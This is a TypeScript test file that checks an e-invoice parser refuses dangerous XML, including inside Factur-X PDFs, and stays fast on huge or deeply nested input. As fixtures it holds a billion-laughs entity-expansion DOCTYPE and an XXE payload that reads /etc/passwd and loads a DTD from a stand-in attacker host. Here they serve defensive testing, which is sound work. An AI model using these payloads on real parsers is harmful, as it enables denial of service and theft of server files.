/** XML with entity expansion or external entities is refused however it is dressed; deep or huge XML answers in bounded time. */
import { readFileSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { readEInvoice } from '../../../utils/einvoice/parse';
import { buildPdf, facturXObjects } from '../einvoice/build-pdf';

const CII = readFileSync(path.resolve(import.meta.dirname, '../../fixtures/einvoices/mustangproject/validV2FR.xml'), 'utf8');
const ROOT = '<rsm:CrossIndustryInvoice';
const utf8 = (s: string) => new TextEncoder().encode(s);
const LAUGHS =
  '<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>';
const EXTERNAL = '<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd"><!ENTITY % remote SYSTEM "http://attacker.example/x.dtd">%remote;]>';

/** The CII sample with `doctype` before its root and `&entity;` in the seller's name. */
const withDoctype = (doctype: string, entity: string) => CII.replace(ROOT, `${doctype}\n${ROOT}`).replace('Atelier du Ballon SARL', `&${entity};`);

function utf16(text: string, bigEndian: boolean): Uint8Array {
  const le = Buffer.from(text.replace(/encoding="[^"]*"/, 'encoding="UTF-16"'), 'utf16le');
  if (bigEndian) for (let i = 0; i < le.length; i += 2) [le[i], le[i + 1]] = [le[i + 1], le[i]];
  return new Uint8Array(Buffer.concat([Buffer.from(bigEndian ? [0xfe, 0xff] : [0xff, 0xfe]), le]));
}

async function refusedQuickly(bytes: Uint8Array, reasons = ['doctype']): Promise<void> {
  const started = performance.now();
  const result = await readEInvoice(bytes);
  expect(performance.now() - started).toBeLessThan(2_000);
  expect(result.ok).toBe(false);
  if (!result.ok) expect(reasons).toContain(result.reason);
}

describe('XML entities', () => {
  const billion = withDoctype(LAUGHS, 'lol3');
  const external = withDoctype(EXTERNAL, 'xxe');

  it('refuses a billion-laughs DOCTYPE and external entities in UTF-8', async () => {
    await refusedQuickly(utf8(billion));
    await refusedQuickly(utf8(external));
  });

  it('refuses them in UTF-16 (LE and BE, with BOM), where a byte-level search for "<!DOCTYPE" would miss', async () => {
    for (const text of [billion, external]) {
      await refusedQuickly(utf16(text, false));
      await refusedQuickly(utf16(text, true));
    }
  });

  it('refuses them after a comment, a processing instruction, a UTF-8 BOM, or written in lower case', async () => {
    await refusedQuickly(utf8(billion.replace('<!DOCTYPE', '<!-- invoice --><?pi x?>\n<!DOCTYPE')));
    await refusedQuickly(utf8(`\uFEFF${external}`));
    await refusedQuickly(utf8(external.replace('<!DOCTYPE', '<!doctype')), ['doctype', 'corrupt']);
    await refusedQuickly(utf8(external.replace(/^<\?xml[^>]*>\s*/, '')));
  });

  it('refuses them inside a Factur-X PDF, plain or deflated in an object stream', async () => {
    await refusedQuickly(buildPdf(facturXObjects(billion), { root: 1 }));
    await refusedQuickly(buildPdf(facturXObjects(external, { compressed: true }), { root: 1, xref: 'stream' }));
  });

  it('never resolves an entity it was not told about: an undeclared &xxe; is corrupt, not a file read', async () => {
    await refusedQuickly(utf8(CII.replace('Atelier du Ballon SARL', '&xxe;')), ['corrupt']);
  });

  it('answers in bounded time on 50 000 nested elements and on 100 000 attributes', async () => {
    const deep = `<?xml version="1.0"?>${'<a>'.repeat(50_000)}${'</a>'.repeat(50_000)}`;
    await refusedQuickly(utf8(deep), ['corrupt', 'no-einvoice', 'incomplete']);
    const wide = `<?xml version="1.0"?><rsm:CrossIndustryInvoice xmlns:rsm="urn:un:unece:uncefact:data:standard:CrossIndustryInvoice:100" ${Array.from({ length: 100_000 }, (_, i) => `a${i}="x"`).join(' ')}/>`;
    await refusedQuickly(utf8(wide), ['corrupt', 'incomplete']);
  });

  // The XML parse costs about 1 s per MB of dense markup (xmldom): past 100 000 tags (LIMITS.xmlTags) the file is
  // refused as too large before parsing. Real e-invoices are under 50 KB (largest public sample: 46 KB).
  it('a 2 MB invoice XML of dense markup (40x the largest real one) answers within a second', async () => {
    const dense = `<?xml version="1.0"?><rsm:CrossIndustryInvoice xmlns:rsm="urn:un:unece:uncefact:data:standard:CrossIndustryInvoice:100">${'<b>x</b>'.repeat(260_000)}</rsm:CrossIndustryInvoice>`;
    const started = performance.now();
    await readEInvoice(utf8(dense));
    expect(performance.now() - started).toBeLessThan(1_000);
  });
});
